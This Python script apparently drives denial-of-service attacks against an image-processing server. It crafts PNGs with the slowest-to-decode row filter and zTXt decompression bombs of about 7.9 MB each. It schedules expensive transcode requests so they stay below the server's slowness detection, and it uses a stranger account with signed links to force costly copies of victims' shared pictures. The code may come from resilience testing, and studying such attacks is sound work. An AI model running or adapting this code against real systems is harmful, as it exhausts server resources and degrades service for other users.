# Pictures that cost the media workers much, and the attacks with them.
import os, random, struct, threading, zlib
from wire import Client, form, library

SIDES, QUALITIES = (2048, 1536, 1024, 768, 512), (95, 80, 65, 50)
LARGE = "w=2048&h=2048&fit=cover&format=webp&q=95"
# Inflates to 7.9 MB, just below the limit for one text.
TEXT = zlib.compress(b"a" * 7_900_000, 9)


def chunk(name, content):
    return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))


def png(side, bits=16, random_bytes=None):
    """A square PNG with alpha (16 bits) or without (8 bits). Each row has the filter Paeth, which is the slowest to undo. With
    `random_bytes`, only so many bytes of a row are random and the others are 0, so that the file is smaller."""
    channels, color = (4, 6) if bits == 16 else (3, 2)
    row = side * channels * bits // 8
    table = bytes(value & 1 for value in range(256))
    filled = min(row, random_bytes or row)
    rows = [b"\4" + os.urandom(filled).translate(table) + bytes(row - filled) for _ in range(40)]
    packer = zlib.compressobj(1, zlib.DEFLATED, 15, 9, zlib.Z_RLE if filled < row else zlib.Z_HUFFMAN_ONLY)
    packed = b"".join([packer.compress(rows[number % 40]) for number in range(side)]) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, bits, color, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def unique(picture, before=b""):
    """The same picture with a text of its own, so that the server has not stored these bytes before."""
    return picture[:33] + before + chunk(b"tEXt", b"Comment\0" + os.urandom(8).hex().encode()) + picture[33:]


def with_texts(picture, count):
    """The same picture with long compressed texts, which an inspection inflates."""
    return unique(picture, chunk(b"zTXt", b"Comment\0\0" + TEXT) * count)


def copy(client, person, wanted):
    """Requests a copy with the person's token, so that it counts for the person and not for the network alone."""
    return client.request("GET", person["picture"].split("?")[0] + "?" + wanted, person["token"])[0]


def wanted(formats, sides=SIDES):
    return (
        f"w={random.choice(sides)}&h={random.choice(sides)}&q={random.choice(QUALITIES)}"
        f"&fit={random.choice(('cover', 'contain'))}&format={random.choice(formats)}"
    )


def one_after_another(attack, count, request):
    """Sends `count` requests, each once: four at the beginning, and the others in equal steps, so that a short attempt of one always waits."""
    asked = set()

    def ask(client, number):
        if number in asked:
            return "done"
        asked.add(number)
        attack.wait(max(0, (number - 4) * attack.stage["seconds"] / count))
        attack.count("asked")
        return request(client, number)

    attack.each(count, ask)


def one_slow_copy_each(attack):
    """Accounts begin one after another. After its first slow copy, the server knows an account as slow."""
    one_after_another(attack, len(attack.accounts), lambda client, number: copy(client, attack.accounts[number], LARGE))


def copies_by_links(attack):
    """The same by signed links, without an account: a picture of each of the accounts from each of the networks."""
    networks = len(attack.sources)
    link = lambda number: attack.accounts[number // networks]["links"][number % networks]
    count = networks * len(attack.accounts)
    one_after_another(attack, count, lambda client, number: client.request("GET", f"{link(number)}&{LARGE}")[0])


def copies_below_a_second(attack):
    """One copy after the other of a picture that takes a little less than what counts as slow."""
    attack.each(len(attack.accounts), lambda client, number: copy(client, attack.accounts[number], wanted(("webp", "jpeg"))))


def inspections(attack):
    """Four uploads at a time of each account, so that an inspection of each network always waits."""
    picture, texts = png(40, 8), attack.person["texts"]
    people = attack.accounts[:4]

    def upload(client, number):
        person = people[number % len(people)]
        body, kind = form({}, [("file", "a.png", "image/png", with_texts(picture, texts))])
        return client.request("POST", library(person) + "/swift", person["token"], body, {"Content-Type": kind})[0]

    attack.each(4 * len(people), upload)


def copies_of_others(attack):
    """A stranger in the last network requests slow copies of the pictures that two victims show to others. Then the accounts, in the other
    networks, request copies that are long work. Each attempt uses pictures of other victims, because the server keeps the copies and
    remembers that the pictures are slow."""
    stranger = attack.sources.pop()
    shown = [person["shown"] for person in attack.stage["victims"] if "shown" in person]
    links = shown[2 * attack.attempt : 2 * attack.attempt + 2] or shown[:2]

    def open_link(link):
        client = Client(attack.stage, stranger)
        for size in ("w=2048&h=2048", "w=2048&h=1536"):
            try:
                attack.count(f"stranger {client.request('GET', f'{link}&{size}&fit=cover&format=webp&q=95')[0]}")
            except OSError as error:
                attack.count("stranger " + type(error).__name__)

    threads = [threading.Thread(target=open_link, args=(link,)) for link in links]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    attack.each(len(attack.accounts), lambda client, number: copy(client, attack.accounts[number], wanted(("avif",))))
